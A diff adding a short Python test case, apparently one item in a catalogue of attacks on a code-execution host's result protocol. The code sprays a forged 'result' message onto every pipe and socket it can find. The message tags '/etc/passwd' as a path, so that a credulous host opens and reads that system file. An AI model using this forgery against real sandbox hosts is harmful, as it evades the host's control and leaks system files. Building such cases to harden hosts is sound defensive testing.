@@ -1,0 +1,34 @@
+# id: 405
+# name: path_that_a_host_opens
+# category: protocol
+# technique: a value tagged as a path
+# breach: typeconf
+# looks_like: the host holds a Path, which it opens
+# uses: RESULT_TMPL
+# vtype: str
+# baseline: credulous
+import os, stat
+
+
+def spray(data):
+    """To whatever leads out of this process."""
+    for fd in range(64):
+        try:
+            if stat.S_ISFIFO(os.fstat(fd).st_mode) or stat.S_ISSOCK(os.fstat(fd).st_mode):
+                os.write(fd, data)
+        except OSError:
+            pass
+
+
+def message(text, *blobs):
+    header = text.encode()
+    return len(header).to_bytes(4, 'big') + header + b''.join(blobs)
+
+
+def done(value, *blobs):
+    """The end of this snippet, forged, with a value in the kernel's own notation."""
+    sizes = ',"blobs":%s' % [len(blob) for blob in blobs] if blobs else ''
+    return message(RESULT_TMPL.replace('@@', value)[:-1] + sizes + '}', *blobs)
+
+
+spray(done('["path", "/etc/passwd"]'))
